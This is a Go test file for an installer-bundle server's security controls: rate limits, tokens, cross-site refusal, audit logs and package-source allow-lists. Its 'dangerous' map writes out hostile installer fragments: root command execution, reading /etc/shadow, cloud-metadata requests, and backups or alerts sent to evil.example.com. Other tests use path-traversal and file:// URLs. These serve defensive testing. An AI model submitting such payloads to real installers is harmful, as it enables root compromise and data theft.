package server_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sealift/sealift/bundle"
	"github.com/sealift/sealift/internal/testing/objects"
	"github.com/sealift/sealift/server"
	"github.com/sealift/sealift/store"
)

func TestClientsBeyondTheirRateAreRefused(t *testing.T) {
	s := open(t, t.TempDir())
	front := serve(t, s, func(o *server.Options) { o.Rate = 0.001 }) // a burst of one, then none for a quarter of an hour
	if a := ask(t, "GET", front.URL+"/openapi.json", ""); a.StatusCode != http.StatusOK {
		t.Fatalf("%s %s", a.Status, a.body)
	}
	if a := ask(t, "GET", front.URL+"/openapi.json", ""); a.StatusCode != http.StatusTooManyRequests || a.Header.Get("Retry-After") == "" {
		t.Errorf("%s", a.Status)
	}
}

func TestManyNodesBehindOneAddressFetchRanges(t *testing.T) {
	packages := filled(t)
	id := post(t, serve(t, packages, nil).URL, installer(both))
	front := serve(t, packages, func(o *server.Options) { o.Rate = 0.001 }) // a burst of one request, or of ten for ranges
	for n, want := range []int{206, 206, 206, 206, 206, 206, 206, 206, 206, 206, 429} {
		if a := ask(t, "GET", front.URL+"/bundle/"+id+".tar.gz", "", "Range", fmt.Sprintf("bytes=%d-%d", n, n+10)); a.StatusCode != want {
			t.Fatalf("range %d: %s, want %d", n+1, a.Status, want)
		}
	}
}

func TestLargeBodyCountsAsManyRequests(t *testing.T) {
	front := serve(t, filled(t), func(o *server.Options) { o.Rate = 1 }) // a burst of four requests
	large := installer("  base: {version: '1.0'}\n") + strings.Repeat("#", 100_000)
	for n, want := range []int{http.StatusCreated, http.StatusTooManyRequests} {
		if a := ask(t, "POST", front.URL+"/installer", large); a.StatusCode != want {
			t.Errorf("Installer %d: %s, want %d", n+1, a.Status, want)
		}
	}
}

func TestClientsBehindProxyHaveOwnRates(t *testing.T) {
	s := open(t, t.TempDir())
	front := serve(t, s, func(o *server.Options) { o.Rate, o.BehindProxy = 0.001, true })
	for _, row := range []struct {
		forwarded string
		status    int
	}{
		{"192.0.2.1", http.StatusOK},
		{"192.0.2.1", http.StatusTooManyRequests},
		{"192.0.2.2", http.StatusOK},
		{"198.51.100.7, 192.0.2.2", http.StatusTooManyRequests}, // the client's own addresses precede the one that the proxy adds
		{"198.51.100.7, 2001:db8::1", http.StatusOK},
		{"2001:db8::ffff", http.StatusTooManyRequests}, // of the same network, which one client may own entirely
		{"2001:db8:0:1::1", http.StatusOK},
	} {
		if a := ask(t, "GET", front.URL+"/openapi.json", "", "X-Forwarded-For", row.forwarded); a.StatusCode != row.status {
			t.Errorf("for %s: %s, want %d", row.forwarded, a.Status, row.status)
		}
	}
	alone := serve(t, s, func(o *server.Options) { o.Rate = 0.001 })
	ask(t, "GET", alone.URL+"/openapi.json", "", "X-Forwarded-For", "192.0.2.1")
	if a := ask(t, "GET", alone.URL+"/openapi.json", "", "X-Forwarded-For", "192.0.2.2"); a.StatusCode != http.StatusTooManyRequests {
		t.Errorf("without a proxy in front, another address of a header got %s", a.Status)
	}
}

func TestClosedServerTakesInstallersOnlyWithItsToken(t *testing.T) {
	front := serve(t, filled(t), func(o *server.Options) { o.Closed = true })
	for auth, status := range map[string]int{"": 401, "Bearer wrong": 401, "Basic " + token: 401, "Bearer " + token: 201} {
		if a := ask(t, "POST", front.URL+"/installer", installer(both), "Authorization", auth); a.StatusCode != status {
			t.Errorf("with %q: %s %s", auth, a.Status, a.body)
		}
	}
	none := serve(t, filled(t), func(o *server.Options) { o.Closed, o.Token = true, "" })
	if a := ask(t, "POST", none.URL+"/installer", installer(both), "Authorization", "Bearer "); a.StatusCode != http.StatusForbidden {
		t.Errorf("a server that has no token: %s", a.Status)
	}
}

// dangerous are parts of Installers that run commands as root on a host that only inspects them, by the field that a refusal
// names.
var dangerous = map[string]string{
	"hostPreflights: a collector that runs a program":    "  kurl: {hostPreflights: {spec: {collectors: [{run: {command: sh, args: [-c, 'id >/root/x']}}]}}}\n",
	"hostPreflights: a collector that reads a file":      "  kurl: {hostPreflights: {spec: {collectors: [{copy: {path: /etc/shadow}}]}}}\n",
	"hostPreflights: a collector that sends a request":   "  kurl: {hostPreflights: {spec: {collectors: [{http: {get: {url: 'http://169.254.169.254/'}}}]}}}\n",
	"hostPreflights: another spelling":                   "  kurl: {hostPreflights: {spec: {collectors: [{Run: {command: id}}]}}}\n",
	"hostPreflights: checks from elsewhere":              "  kurl: {hostPreflights: {spec: {uri: 'http://x'}}}\n",
	"hostPreflights: remote collectors":                  "  kurl: {hostPreflights: {spec: {remoteCollectors: [{run: {}}]}}}\n",
	"hostPreflights: text":                               "  kurl: {hostPreflights: 'spec: {collectors: [{run: {command: id}}]}'}\n",
	"kubernetes.oidc: an issuer of the attacker's":       "  kubernetes: {version: 1.36.3, oidc: {issuers: [{url: 'https://evil.example.com', audiences: [x]}], admins: ['oidc:x']}}\n",
	"snapshots.store: a server of the attacker's":        "  snapshots: {key: age1x, store: 's3://b?endpoint=https://evil.example.com'}\n",
	"iptablesConfig.iptablesCmds: a command":             "  iptablesConfig: {iptablesCmds: [[-F]]}\n",
	"selinuxConfig.chconCmds: a command":                 "  selinuxConfig: {chconCmds: [[-t, x, /etc]]}\n",
	"selinuxConfig.semanageCmds: a command":              "  selinuxConfig: {semanageCmds: [[port]]}\n",
	"firewalldConfig.firewalldCmds: a command":           "  firewalldConfig: {firewalldCmds: [[--panic-on]]}\n",
	"containerd.tomlConfig: a program of the attacker's": "  containerd: {version: '1.0', tomlConfig: \"[stream_processors.x]\\npath = '/bin/sh'\"}\n",
	"containerd.tomlConfig: a port for everybody":        "  containerd: {version: '1.0', tomlConfig: \"[grpc]\\ntcp_address = '0.0.0.0:7777'\"}\n",
	"kurl.caCertificates: an authority":                  "  kurl: {caCertificates: x}\n",
	"kurl.nameserver: a name server":                     "  kurl: {nameserver: 192.0.2.1}\n",
	"prometheus.receivers: a webhook":                    "  prometheus: {version: '1.0', receivers: ['https://evil.example.com/']}\n",
	"prometheus.smtpServer: a mail server":               "  prometheus: {version: '1.0', smtpServer: 'evil.example.com:25'}\n",
}

func TestInstallerWithCommandsNeedsToken(t *testing.T) {
	packages := filled(t)
	for name, version := range map[string]string{"containerd": "1.0", "kubernetes": "1.36.3", "prometheus": "1.0"} {
		put(t, packages, name+"-"+version+".tar.gz", pack(t, name, version, map[string]string{"Manifest": "", "install.sh": ""}))
	}
	front := serve(t, packages, nil)
	without := serve(t, packages, func(o *server.Options) { o.Token = "" })
	for name, part := range dangerous {
		field, _, _ := strings.Cut(name, ":")
		text := installer(both + part)
		for url, want := range map[string]string{front.URL: "Authorization: Bearer", without.URL: "this server has no token"} {
			a := ask(t, "POST", url+"/installer", text)
			if a.StatusCode != http.StatusForbidden || !strings.Contains(string(a.body), field) || !strings.Contains(string(a.body), want) {
				t.Errorf("%s: %s %s", name, a.Status, a.body)
			}
		}
		if a := ask(t, "POST", front.URL+"/installer", text, "Authorization", "Bearer wrong"); a.StatusCode != http.StatusUnauthorized {
			t.Errorf("%s, with a wrong token: %s", name, a.Status)
		}
		form := "version.base=1.0&version.user=2.0&further=" + url.QueryEscape(strings.ReplaceAll(part, "\n  ", "\n")[2:])
		if a := ask(t, "POST", front.URL+"/compose", form, "Content-Type", "application/x-www-form-urlencoded"); a.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(string(a.body), field) {
			t.Errorf("%s, by the form: %s\n%s", name, a.Status, a.body)
		}
		stored, err := packages.List(t.Context(), "installers/")
		if err != nil || len(stored) > 0 {
			t.Fatalf("%s: the store has %v, %v", name, stored, err)
		}
	}
	for name, part := range dangerous {
		if a := ask(t, "POST", front.URL+"/installer", installer(both+part), "Authorization", "Bearer "+token); a.StatusCode != http.StatusCreated {
			t.Errorf("%s, with the token: %s %s", name, a.Status, a.body)
		}
	}
	if a := ask(t, "POST", front.URL+"/installer", installer(both+"  kurl: {proxyAddress: 'http://proxy.example.com:3128', hostPreflights: {spec: {collectors: [{cpu: {}}, {diskUsage: {path: /var}}], analyzers: []}}}\n")); a.StatusCode != http.StatusCreated {
		t.Errorf("checks that only look, and a proxy: %s %s", a.Status, a.body)
	}
}

func TestCrossSiteRequestsStoreNothing(t *testing.T) {
	front := serve(t, filled(t), func(o *server.Options) { o.URL = "https://sealift.example.com" })
	for name, row := range map[string]struct {
		header []string
		status int
	}{
		"another origin":                {[]string{"Origin", "https://evil.example", "Content-Type", "text/plain"}, 403},
		"no origin that is told":        {[]string{"Origin", "null", "Content-Type", "text/plain"}, 403},
		"another site, by the browser":  {[]string{"Sec-Fetch-Site", "cross-site"}, 403},
		"the server's URL, by a proxy":  {[]string{"Origin", "https://sealift.example.com"}, 200},
		"the same origin":               {[]string{"Sec-Fetch-Site", "same-origin"}, 200},
		"curl, which is no page at all": {nil, 200},
	} {
		for _, path := range []string{"POST /installer", "POST /installer/validate", "PUT /installer/demo"} {
			method, path, _ := strings.Cut(path, " ")
			a := ask(t, method, front.URL+path, installer(both), append([]string{"Authorization", "Bearer " + token}, row.header...)...)
			if a.StatusCode != row.status && (a.StatusCode != http.StatusCreated || row.status != 200) {
				t.Errorf("%s, %s %s: %s %s", name, method, path, a.Status, a.body)
			}
		}
	}
}

func TestWritingRequestsAreAudited(t *testing.T) {
	var log bytes.Buffer
	front := serve(t, filled(t), func(o *server.Options) { o.Log = slog.New(slog.NewTextHandler(&log, nil)) })
	id := post(t, front.URL, installer(both))
	ask(t, "PUT", front.URL+"/installer/demo", installer(both), "Authorization", "Bearer "+token)
	ask(t, "PUT", front.URL+"/version/v9/installer/demo", installer("  base: {version: '1.0'}\n"), "Authorization", "Bearer not-"+token)
	page := ask(t, "POST", front.URL+"/compose", "version.base=1.1", "Content-Type", "application/x-www-form-urlencoded")
	_, rest, _ := strings.Cut(string(page.body), "curl -fsSL "+front.URL+"/")
	composed, _, _ := strings.Cut(rest, " ")
	ask(t, "GET", front.URL+"/"+id, "")
	lines := strings.Split(strings.TrimSpace(log.String()), "\n")
	for i, want := range []string{
		"msg=audit method=POST path=/installer status=201 client=127.0.0.1 … installer=" + id + " token=none",
		"msg=audit method=PUT path=/installer/demo status=200 client=127.0.0.1 … installer=demo token=valid",
		`msg=audit method=PUT path=/installer/demo status=401 client=127.0.0.1 … release=v9 installer="" token=wrong`,
		"msg=audit method=POST path=/compose status=200 client=127.0.0.1 … installer=" + composed + " token=none",
	} {
		begin, end, _ := strings.Cut(want, "…")
		if i >= len(lines) || !strings.Contains(lines[i], begin) || !strings.HasSuffix(lines[i], end) {
			t.Errorf("line %d of\n%s\nis not\n%s", i+1, &log, want)
		}
	}
	if len(lines) != 4 || strings.Contains(log.String(), token) {
		t.Errorf("four requests that may store something, and no secrets, are not\n%s", &log)
	}
}

func TestForeignPackagesNeedPermission(t *testing.T) {
	var asked atomic.Int64
	data := pack(t, "other", "1.0", map[string]string{"Manifest": "", "install.sh": "elsewhere() { :; }\n"})
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if to, ok := strings.CutPrefix(r.URL.Path, "/allowed/moved/"); ok {
			http.Redirect(w, r, "/"+to+"?signature=1", http.StatusFound)
			return
		}
		asked.Add(1)
		w.Header().Set("ETag", `"1"`)
		http.ServeContent(w, r, "", time.Time{}, bytes.NewReader(data))
	}))
	t.Cleanup(elsewhere.Close)
	at := func(path string) string {
		return installer("  other: {version: '1.0', s3Override: '" + path + "'}\n")
	}
	allowing := func(o *server.Options) {
		o.Packages.Overrides = []string{elsewhere.URL + "/allowed/"}
		o.Packages.Opener = store.Opener{Retry: store.Retry{Attempts: 1}}
	}
	front := serve(t, filled(t), allowing)
	for name, path := range map[string]string{
		"another folder":        elsewhere.URL + "/other-1.0.tar.gz",
		"another server":        strings.Replace(elsewhere.URL, "127.0.0.1", "127.0.0.2", 1) + "/allowed/other-1.0.tar.gz",
		"a name that begins so": elsewhere.URL + "/allowed-not/other-1.0.tar.gz",
		"out of the folder":     elsewhere.URL + "/allowed/../other-1.0.tar.gz",
		"the same, hidden":      elsewhere.URL + "/allowed/%2e%2e/other-1.0.tar.gz",
		"with a user":           strings.Replace(elsewhere.URL, "http://", "http://user@", 1) + "/allowed/other-1.0.tar.gz",
		"with a query":          elsewhere.URL + "/allowed/other-1.0.tar.gz?x=y",
		"a file":                "file:///etc/other-1.0.tar.gz",
		"by way of what may":    elsewhere.URL + "/allowed/moved/other-1.0.tar.gz",
	} {
		for _, method := range []string{"/installer", "/installer/validate"} {
			if a := ask(t, "POST", front.URL+method, at(path)); a.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(string(a.body), "s3Override") {
				t.Errorf("%s: %s %s", name, a.Status, a.body)
			}
		}
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("%d requests have left to where none may", n)
	}
	for _, path := range []string{"/allowed/other-1.0.tar.gz", "/allowed/moved/allowed/other-1.0.tar.gz"} {
		id := post(t, front.URL, at(elsewhere.URL+path))
		whole := ask(t, "GET", front.URL+"/bundle/"+id+".tar.gz", "").body
		archive, err := bundle.NewArchive(bytes.NewReader(whole), int64(len(whole)))
		if err != nil {
			t.Fatal(err)
		}
		if got, err := archive.ReadFile("addons/other/1.0/install.sh", 100); err != nil || !strings.HasPrefix(string(got), "elsewhere()") {
			t.Errorf("%s: the package from elsewhere has %q, %v", path, got, err)
		}
	}
}

func TestUnusablePackagesAreNamed(t *testing.T) {
	s := open(t, t.TempDir())
	put(t, s, "junk-1.0.tar.gz", []byte("no archive at all"))
	put(t, s, "alias-1.0.tar.gz", pack(t, "real", "1.0", map[string]string{"Manifest": "", "install.sh": ""}))
	front := serve(t, s, func(o *server.Options) { o.Programs[0].Platform = "plan9/mips" })
	put(t, s, "foreign-1.0.tar.gz", pack(t, "foreign", "1.0", map[string]string{"Manifest": "", "install.sh": ""}))
	for name, want := range map[string]string{
		"junk":    "junk-1.0.tar.gz: not an archive made by sealift, or its beginning is damaged; copy or download it again, or if kURL made it, convert it with 'sealift import'",
		"foreign": "foreign-1.0.tar.gz is for " + platform + ", not for plan9/mips",
	} {
		a := ask(t, "POST", front.URL+"/installer", installer("  "+name+": {version: '1.0'}\n"))
		if a.StatusCode != http.StatusBadGateway || !strings.Contains(string(a.body), want) || !strings.Contains(string(a.body), "the operator of this server") {
			t.Errorf("%s: %s %s", name, a.Status, a.body)
		}
	}
	here := serve(t, s, nil)
	if a := ask(t, "POST", here.URL+"/installer", installer("  alias: {version: '1.0'}\n")); !strings.Contains(string(a.body), "alias-1.0.tar.gz says that it is real 1.0") {
		t.Errorf("under another name: %s %s", a.Status, a.body)
	}
}

func TestRedirectLeadsToBucket(t *testing.T) {
	o := objects.Start(t)
	s := open(t, o.URL(""))
	fill(t, s)
	front := serve(t, s, func(o *server.Options) { o.Redirect = true })
	var hops []string
	client := http.Client{CheckRedirect: func(r *http.Request, _ []*http.Request) error {
		hops = append(hops, r.URL.Host)
		return nil
	}}
	for _, path := range []string{"/dist/base-1.0.tar.gz", "/version/v9/dist/base-1.0.tar.gz"} {
		hops = nil
		resp, err := client.Get(front.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		got, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		want := ask(t, "GET", serve(t, s, nil).URL+path, "").body
		if err != nil || resp.StatusCode != http.StatusOK || !bytes.Equal(got, want) || len(hops) != 1 || "http://"+hops[0] != o.Endpoint {
			t.Errorf("%s: %s by way of %v, %d bytes, want the %d of the package, %v", path, resp.Status, hops, len(got), len(want), err)
		}
	}
	if head := ask(t, "HEAD", front.URL+"/dist/base-1.0.tar.gz", ""); head.StatusCode != http.StatusOK || head.ContentLength < int64(len(layer)) {
		t.Errorf("HEAD, for which a URL for GET is not signed: %s, %d bytes", head.Status, head.ContentLength)
	}
	kept := serve(t, filled(t), func(o *server.Options) { o.Redirect = true })
	if a := ask(t, "GET", kept.URL+"/dist/base-1.0.tar.gz", ""); a.StatusCode != http.StatusOK || a.Request.URL.Host != kept.Listener.Addr().String() {
		t.Errorf("a package in a folder, which gives out no URLs: %s", a.Status)
	}
	whole := ask(t, "GET", front.URL+"/bundle/"+post(t, front.URL, installer(both))+".tar.gz", "")
	if whole.StatusCode != http.StatusOK || whole.Request.URL.Host != front.Listener.Addr().String() {
		t.Errorf("a bundle, which is nowhere whole: %s", whole.Status)
	}
}

func TestMetricsAreOnTheirOwnPort(t *testing.T) {
	h := newServer(t, filled(t), nil)
	front, own := httptest.NewServer(h), httptest.NewServer(h.Metrics())
	t.Cleanup(front.Close)
	t.Cleanup(own.Close)
	ask(t, "GET", front.URL+"/healthz", "")
	if a := ask(t, "GET", front.URL+"/metrics", ""); a.StatusCode != http.StatusNotFound {
		t.Errorf("on the port of clients: %s", a.Status)
	}
	resp, err := http.Get(own.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if text, err := io.ReadAll(resp.Body); err != nil || !strings.Contains(string(text), `sealift_http_requests_total{code="200",method="GET",route="/healthz"} 1`) {
		t.Errorf("%v:\n%s", err, text)
	}
}

func TestFailedRangesAndConditionsAreProblems(t *testing.T) {
	s := folder(t)
	id := post(t, s.URL, installer(both))
	for _, path := range []string{"/bundle/" + id + ".tar.gz", "/dist/base-1.0.tar.gz", "/installer/" + id} {
		for header, status := range map[[2]string]int{{"Range", "bytes=99999999999-"}: 416, {"Range", "bytes=-0"}: 416, {"If-Match", `"other"`}: 412} {
			a := ask(t, "GET", s.URL+path, "", header[:]...)
			var p server.Problem
			if err := json.Unmarshal(a.body, &p); err != nil || a.StatusCode != status || p.Status != status || p.Detail == "" || a.Header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s, %v: %s %q %s", path, header, a.Status, a.Header.Get("Content-Type"), a.body)
			}
			if status == 416 && !strings.HasPrefix(a.Header.Get("Content-Range"), "bytes */") {
				t.Errorf("%s: no size in Content-Range: %v", path, a.Header)
			}
		}
	}
}

// TestStalledUploadIsAudited sends half of an Installer, and nothing more or no more at all.
func TestStalledUploadIsAudited(t *testing.T) {
	for name, row := range map[string]struct {
		then   func(c *net.TCPConn) error
		status string
	}{
		"the client has gone": {func(c *net.TCPConn) error { return c.Close() }, "status=499"},
		"the client waits":    {func(*net.TCPConn) error { return nil }, "status=408"},
	} {
		t.Run(name, func(t *testing.T) {
			lines := make(chan string, 10)
			h := newServer(t, filled(t), func(o *server.Options) { o.Log = slog.New(slog.NewTextHandler(logWriter(lines), nil)) })
			front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { h.ServeHTTP(&impatient{w}, r) }))
			t.Cleanup(front.Close)
			conn, err := net.Dial("tcp", front.Listener.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			fmt.Fprint(conn, "POST /installer HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\nspec:")
			time.Sleep(100 * time.Millisecond)
			if err := row.then(conn.(*net.TCPConn)); err != nil {
				t.Fatal(err)
			}
			if got := <-lines; !strings.Contains(got, "msg=audit") || !strings.Contains(got, row.status) {
				t.Errorf("audited as %s, want %s", got, row.status)
			}
		})
	}
}

// logWriter forwards the lines of a log.
type logWriter chan string

func (l logWriter) Write(p []byte) (int, error) {
	l <- string(p)
	return len(p), nil
}

// impatient waits less for a client's data than a server does.
type impatient struct{ http.ResponseWriter }

func (i *impatient) SetReadDeadline(at time.Time) error {
	if !at.IsZero() {
		at = time.Now().Add(time.Second)
	}
	return http.NewResponseController(i.ResponseWriter).SetReadDeadline(at)
}

func (i *impatient) Unwrap() http.ResponseWriter { return i.ResponseWriter }
